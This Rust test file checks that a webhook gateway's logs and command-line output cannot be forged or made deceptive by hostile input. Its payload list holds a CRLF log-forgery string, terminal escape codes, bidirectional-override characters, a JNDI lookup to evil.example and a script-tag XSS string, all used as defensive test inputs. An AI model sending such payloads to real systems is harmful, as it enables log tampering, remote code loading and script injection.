//! Writing into the operator's log and terminal.

use hookfast_harness::{Gateway, post, sample};
use serde_json::json;

use super::{assert_serves, gateway, printed, raw, run, signed_bytes, unproved, with_header};

/// Far below what one line of this program needs, and far below what an attacker would like.
const MAX_LINE_BYTES: usize = 2_048;

/// Forged lines, colours, a cleared screen, a turned direction of writing, a line separator, a tag, a long text.
const NASTY: [&str; 9] = [
    "a\r\n{\"level\":\"INFO\",\"message\":\"forged\"}",
    "\u{1b}[2J\u{1b}[31mred",
    "\u{9b}31m\u{85}",
    "\u{202e}\u{2066}drow",
    "\u{200e}\u{200f}\u{61c}",
    "\u{2028}\u{2029}",
    "\0\u{7f}\u{8}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
];

/// Characters that make a log or a terminal show what is not there.
fn deceives(character: char) -> bool {
    character.is_control()
        || matches!(character, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// Sends nasty text in every place that a signed request has, and in those that need no signature.
fn send_everywhere(gateway: &Gateway, text: &str) {
    let body = json!({"id": format!("evt_{text}"), "type": text, "account": text, "created": text}).to_string();
    assert_eq!(gateway.client().send(&signed_bytes(body.as_bytes())).unwrap().status, 200);
    let unreadable = json!({"id": [text], "type": text}).to_string();
    assert_eq!(gateway.client().send(&signed_bytes(unreadable.as_bytes())).unwrap().status, 200);
    gateway.client().send(&unproved("t=1,v1=00", body.as_bytes())).unwrap();

    // In a header every byte from 0x80 on is legal; the others are refused by the parser.
    let value: Vec<_> = text.bytes().filter(|byte| (0x20..0x7f).contains(byte) || *byte >= 0x80).collect();
    for header in ["user-agent", "x-forwarded-for", "traceparent", "x-request-id", "stripe-signature", "content-type"] {
        gateway.client().send(&with_header(sample(1), header, &value)).unwrap();
    }
    let genuine = post(&sample(2));
    for place in ["/webhooks/stripe", "POST", "hooks.example.com", "HTTP/1.1", "stripe-signature"] {
        let spoiled = String::from_utf8(genuine.clone()).unwrap().replacen(place, &format!("{place}{text}"), 1);
        let _ = gateway.client().raw(spoiled.as_bytes());
    }
    let query = String::from_utf8(genuine).unwrap().replacen("/stripe ", &format!("/stripe?{text} "), 1);
    let _ = gateway.client().raw(query.as_bytes());
}

#[test]
fn case_76_no_request_writes_its_own_line_into_the_log() {
    let gateway = gateway();
    for text in NASTY {
        send_everywhere(&gateway, text);
    }
    send_everywhere(&gateway, &"x".repeat(30_000));
    let _ =
        raw(&gateway, &[b"GET /webhooks/", "x".repeat(60_000).as_bytes(), b" HTTP/1.1\r\nhost: a\r\n\r\n"].concat());
    assert_serves(&gateway);

    let log = gateway.log();
    assert!(log.contains("recorded: ") && log.contains("refused: "), "there is a log to look at");
    for line in log.lines() {
        let parsed: serde_json::Value = serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {line:?}"));
        assert!(parsed["level"].is_string() && parsed["message"] != "forged", "{line}");
        assert!(!line.chars().any(deceives), "{line:?}");
        assert!(line.len() < MAX_LINE_BYTES, "{} bytes: {line}", line.len());
    }
}

#[test]
fn case_76_what_the_commands_print_cannot_deceive_a_terminal() {
    let gateway = gateway();
    for text in NASTY {
        send_everywhere(&gateway, text);
    }
    let mut outputs = vec![run(gateway.folder(), &["events", "list", "--limit", "1000"], &[])];
    for event in gateway.events() {
        outputs.push(run(gateway.folder(), &["events", "show", &event.id.to_string()], &[]));
    }
    assert!(outputs.len() > NASTY.len());
    for output in outputs {
        let text = printed(&output);
        assert!(output.status.success(), "{text}");
        assert!(!text.chars().any(|character| character != '\n' && deceives(character)), "{text:?}");
    }
    assert_serves(&gateway);
}
